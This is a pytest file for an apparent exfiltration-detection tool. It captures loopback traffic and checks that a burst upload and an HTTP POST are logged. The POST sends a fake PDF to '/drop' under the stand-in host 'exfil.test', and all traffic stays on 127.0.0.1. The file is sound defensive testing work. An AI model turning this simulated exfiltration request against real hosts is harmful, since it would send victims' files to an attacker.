"""Live capture on the loopback interface (root only): an upload in bursts and an HTTP POST, all on 127.0.0.1."""

from __future__ import annotations

import os
import socket
import threading
import time
from typing import Any

import pytest

from leaktrace.collect.capture import LiveCapture
from leaktrace.ingest.net.flows import FlowOptions
from leaktrace.workspace import Workspace
from tests.ingest_net.helpers import query


def _can_capture() -> bool:
    if not hasattr(socket, "AF_PACKET") or os.geteuid() != 0:
        return False
    try:
        socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(3)).close()
    except OSError:
        return False
    return True


pytestmark = pytest.mark.skipif(not _can_capture(), reason="needs root and AF_PACKET to capture on lo")


def _server(sock: socket.socket, received: list[int], reply: bytes) -> None:
    conn, _ = sock.accept()
    with conn:
        total = 0
        while chunk := conn.recv(65536):
            total += len(chunk)
            if reply and b"\r\n\r\n" in chunk:
                conn.sendall(reply)
        received.append(total)


def test_loopback_upload_and_http(ws: Workspace) -> None:
    progress: list[list[dict[str, Any]]] = []
    cap = LiveCapture(ws, "lo", flush_seconds=0.2, options=FlowOptions(close_delay=0.3, burst_gap=0.4),
                      on_progress=progress.append)
    cap.open()
    stop = threading.Event()
    runner = threading.Thread(target=cap.run, args=(stop,), daemon=True)
    runner.start()
    try:
        # 1. an upload in three pieces, 1 s apart
        srv = socket.create_server(("127.0.0.1", 0))
        port = srv.getsockname()[1]
        got: list[int] = []
        t = threading.Thread(target=_server, args=(srv, got, b""), daemon=True)
        t.start()
        with socket.create_connection(("127.0.0.1", port)) as c:
            for size in (300_000, 500_000, 200_000):
                c.sendall(b"u" * size)
                time.sleep(1.0)
            seen_open = [r for snap in progress for r in snap if r["dst_port"] == port]
        t.join(5)
        srv.close()
        # 2. an HTTP POST
        srv2 = socket.create_server(("127.0.0.1", 0))
        port2 = srv2.getsockname()[1]
        t2 = threading.Thread(target=_server, args=(srv2, [], b"HTTP/1.1 204 No Content\r\n\r\n"), daemon=True)
        t2.start()
        body = b"%PDF-1.5\n" + b"p" * 5000
        with socket.create_connection(("127.0.0.1", port2)) as c:
            c.sendall(b"POST /drop HTTP/1.1\r\nHost: exfil.test\r\nContent-Length: " + str(len(body)).encode()
                      + b"\r\n\r\n" + body)
            c.recv(100)
        t2.join(5)
        srv2.close()
        time.sleep(1.0)
    finally:
        stop.set()
        runner.join(10)
    assert got == [1_000_000]
    # the upload was visible while the connection was still open
    assert seen_open and max(r["bytes_out"] for r in seen_open) >= 300_000
    conn = query(ws, f"SELECT bytes_out, state, source_format FROM conn WHERE dst_port = {port}")
    assert conn == [(1_000_000, "SF", "capture")]
    bursts = query(ws, f"SELECT burst_index, bytes FROM upload_bursts WHERE dst_port = {port} ORDER BY 1")
    assert bursts == [(0, 300_000), (1, 500_000), (2, 200_000)]
    http = query(ws, f"SELECT method, host, uri, status_code, request_body_len FROM http WHERE dst_port = {port2}")
    assert http == [("POST", "exfil.test", "/drop", 204, len(body))]
    assert query(ws, f"SELECT mime_type FROM net_files WHERE uid IN (SELECT uid FROM http WHERE dst_port = {port2})"
                 ) == [("application/pdf",)]
    assert cap.stats.batches >= 2
